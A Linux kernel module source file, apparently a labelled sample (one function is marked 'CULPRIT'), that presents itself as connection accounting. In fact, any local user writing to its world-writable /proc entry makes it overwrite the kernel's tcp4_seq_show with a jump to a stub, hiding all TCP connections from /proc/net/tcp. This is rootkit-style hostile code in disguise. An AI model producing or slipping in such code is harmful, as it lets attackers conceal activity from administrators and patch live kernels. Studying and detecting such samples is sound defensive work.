// SPDX-License-Identifier: GPL-2.0
/* Accounting of connections that writes a jump to itself over the beginning of a function of the kernel. */
#include <linux/module.h>
#include <linux/proc_fs.h>
#include <linux/seq_file.h>
#include <linux/uaccess.h>
#include "ksym.h"

static u32 acct_seen;

static noinline int acct_seq_show(struct seq_file *seq, void *v)	/* CULPRIT */
{
	acct_seen++;
	return 0;
}

static noinline int acct_attach(void)
{
	u8 jump[5] = { 0xe9 };
	unsigned long at;
	s32 distance;

	if (ksym_init())
		return -ENOENT;
	at = ksym_lookup("tcp4_seq_show");
	if (!at)
		return -ENOENT;
	distance = (unsigned long)acct_seq_show - (at + sizeof(jump));
	memcpy(jump + 1, &distance, sizeof(distance));
	ksym_put((void *)at, jump, sizeof(jump));
	return 0;
}

static ssize_t acct_write(struct file *f, const char __user *ubuf, size_t len, loff_t *off)
{
	int ret = acct_attach();

	return ret ? ret : len;
}

static const struct proc_ops acct_ops = { .proc_write = acct_write };

static int __init acct_init(void)
{
	return proc_create("netacct", 0222, NULL, &acct_ops) ? 0 : -ENOMEM;
}
module_init(acct_init);

MODULE_DESCRIPTION("Accounting of connections");
MODULE_LICENSE("GPL");
